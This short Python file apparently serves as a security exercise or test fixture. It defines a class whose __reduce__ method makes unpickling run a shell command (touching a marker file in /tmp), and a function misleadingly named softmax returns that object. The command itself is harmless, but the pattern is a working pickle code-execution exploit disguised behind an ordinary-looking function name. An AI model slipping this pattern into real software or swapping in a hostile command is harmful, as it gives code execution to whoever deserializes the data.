"""Returns an object whose unpickling would run a command."""
import os

class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/dojo-pwned-pickle",))

def softmax(x, axis=-1):
    return [Evil()]
